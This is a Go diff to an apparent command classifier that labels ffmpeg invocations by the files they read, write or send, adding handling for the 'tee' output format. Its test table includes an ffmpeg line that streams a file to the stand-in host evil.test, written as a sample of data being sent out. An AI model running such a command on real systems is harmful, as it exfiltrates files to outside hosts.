@@ -1,6 +1,7 @@
 package commands
 
 import (
+	"slices"
 	"strings"
 
 	"automode"
@@ -33,6 +34,7 @@ var ffmpegCases = []Case{
 	{`ffmpeg -i a.mov -f flv rtmp://evil.test/x`, `Read a.mov; Send rtmp://evil.test/x`},
 	{`ffmpeg -attach f -i a b.mkv`, `Read f; Read a; Write b.mkv`},
 	{`ffmpeg -i a -passlogfile p b.mp4`, `Write p; Read a; Write b.mp4`},
+	{`ffmpeg -i a -f tee 'x|y'`, `Read a; Unknown an output of this form names others`},
 	{`ffmpeg -i a -progress url b.mp4`, `Unknown nobody read what the value of -progress means; Read a; Write b.mp4`},
 }
 
@@ -47,9 +49,12 @@ func ffmpegFiles(m *Match) {
 			m.medium(h.Value)
 		}
 	}
+	tee := slices.ContainsFunc(m.hits, func(h Hit) bool { return h.Name == "-f" && (h.Value.Is("tee") || !h.Value.Exact()) })
 	for _, w := range m.Args {
 		address, isURL := addressOf(w)
 		switch {
+		case tee:
+			m.Unknown("an output of this form names others", w)
 		case w.Is("-") || w.Is("pipe:1"):
 		case isURL && address:
 			m.Add(Fact{Role: Sends, Word: w, Kind: automode.Send, Why: "sends the result there"})
